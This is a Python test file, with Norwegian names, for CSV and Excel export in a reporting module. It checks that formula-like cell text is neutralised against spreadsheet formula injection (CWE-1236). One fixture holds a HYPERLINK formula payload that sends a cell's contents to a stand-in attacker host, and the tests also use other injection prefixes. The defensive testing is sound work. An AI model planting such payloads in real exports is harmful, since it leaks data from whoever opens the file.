"""Nedlasting som CSV og Excel: tekst som ser ut som formler, nøytraliseres; tall forblir tall (CWE-1236)."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from modeller.regler.nokkeltall import Funnstatus, Sammendrag
from modeller.tjenester.leder import (
    Funn,
    Kvartalsrapport,
    Nokkeltall,
    Periodetall,
    funn_som_rader,
    nokkeltall_som_rader,
    som_csv,
    som_excel,
)
from modeller.tjenester.leder.eksport import noytraliser, saker_som_rader

FARLIG = '=HYPERLINK("https://angriper.example/?d="&A1,"Klikk her")'
RADER: list[dict[str, object]] = [
    {"tekst": FARLIG, "pluss": "+1", "at": "@SUM(A1:A9)", "minus_tekst": "-2", "tab": "\tx", "cr": "\rx",
     "tall": -2, "desimal": 0.5, "dato": date(2027, 3, 31), "tom": None, "sann": True, "vanlig": "Åse-Marie"},
    {"tekst": "helt vanlig", "tall": 7},
]


@pytest.mark.parametrize(
    ("verdi", "forventet"),
    [(FARLIG, "'" + FARLIG), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Åse-Marie", "Åse-Marie"), ("a=b", "a=b"), (-2, -2), (1.5, 1.5), (0, 0), (None, ""),
     (True, "ja"), (False, "nei"), (date(2027, 1, 1), date(2027, 1, 1))],
)
def test_noytraliser(verdi: object, forventet: object) -> None:
    assert noytraliser(verdi) == forventet
    assert type(noytraliser(verdi)) is type(forventet)


def test_csv_er_semikolon_utf8_med_bom_og_uten_formler() -> None:
    data = som_csv(RADER)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rader = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rader[0] == ["tekst", "pluss", "at", "minus_tekst", "tab", "cr", "tall", "desimal", "dato", "tom", "sann",
                        "vanlig"]
    assert rader[1] == ["'" + FARLIG, "'+1", "'@SUM(A1:A9)", "'-2", "'\tx", "'\rx", "-2", "0,5", "2027-03-31", "",
                        "ja", "Åse-Marie"]
    assert rader[2] == ["helt vanlig", "", "", "", "", "", "7", "", "", "", "", ""]
    assert all(not celle.startswith(("=", "+", "@", "\t", "\r")) for rad in rader for celle in rad)


def test_excel_har_tall_som_tall_og_ingen_formler() -> None:
    bok = load_workbook(io.BytesIO(som_excel(RADER, ark="Funn")))
    blad = bok["Funn"]
    celler = {blad.cell(row=1, column=c).value: blad.cell(row=2, column=c) for c in range(1, blad.max_column + 1)}
    assert celler["tekst"].value == "'" + FARLIG and celler["tekst"].data_type == "s"
    assert celler["pluss"].value == "'+1" and celler["at"].value == "'@SUM(A1:A9)"
    assert celler["minus_tekst"].value == "'-2" and celler["minus_tekst"].data_type == "s"
    assert celler["tall"].value == -2 and celler["tall"].data_type == "n"
    assert celler["desimal"].value == 0.5 and celler["desimal"].data_type == "n"
    assert celler["dato"].value == datetime(2027, 3, 31, tzinfo=UTC).replace(tzinfo=None)  # Excel: uten sone
    assert celler["vanlig"].value == "Åse-Marie"
    assert not any(c.data_type == "f" for rad in blad.iter_rows() for c in rad)
    assert blad.cell(row=1, column=1).font.bold


def test_rapport_og_nokkeltall_som_rader() -> None:
    funn = Funn(kode="klager", tittel="Åpne klager", regel="-regel som ser ut som formel", kilde="fvl § 28",
                status=Funnstatus.ADVARSEL, antall=2, saker=("S-ABCDEFGH",), merknader=("a.", "b."))
    rapport = Kvartalsrapport(periode="2027-K1", ar=2027, kvartal=1, fra=date(2027, 1, 1), til=date(2027, 3, 31),
                              dato=date(2027, 3, 31), ferdig=True, laget=datetime(2027, 4, 2, tzinfo=UTC), funn=(funn,))
    assert funn_som_rader(rapport) == [{"periode": "2027-K1", "dato": date(2027, 3, 31), "kode": "klager",
                                        "tittel": "Åpne klager", "status": "advarsel", "antall": 2,
                                        "regel": "-regel som ser ut som formel", "kilde": "fvl § 28",
                                        "merknader": "a. b."}]
    assert b"'-regel" in som_csv(funn_som_rader(rapport))
    assert saker_som_rader({"klager": ("S-ABCDEFGH",)}) == [{"funn": "klager", "referanse": "S-ABCDEFGH"}]
    s = Sammendrag(2, 5, 15, 15, 10.0)
    tom = Sammendrag(0, None, None, None, None)
    periode = Periodetall("2027-K1", date(2027, 1, 1), date(2027, 3, 31), date(2027, 3, 31), s, tom, 1, 3, 1, 0.333,
                          0, s, 3, 5, 2, 3)
    rader = nokkeltall_som_rader(Nokkeltall("2027-K1", (periode,)))
    assert rader[0]["periode"] == "2027-K1" and rader[0]["dager_til_vedtak_median"] == 5
    assert rader[0]["dager_til_koordinator_antall"] == 0 and rader[0]["dager_til_koordinator_median"] is None
    assert rader[0]["andel_evalueringer_i_tide"] == 0.333 and rader[0]["med_ansvarsgruppe"] == 3
    assert len(rader[0]) == 16 - 3 + 3 * 5  # tre fordelinger blir fem kolonner hver
    assert load_workbook(io.BytesIO(som_excel(rader))).active.max_row == 2
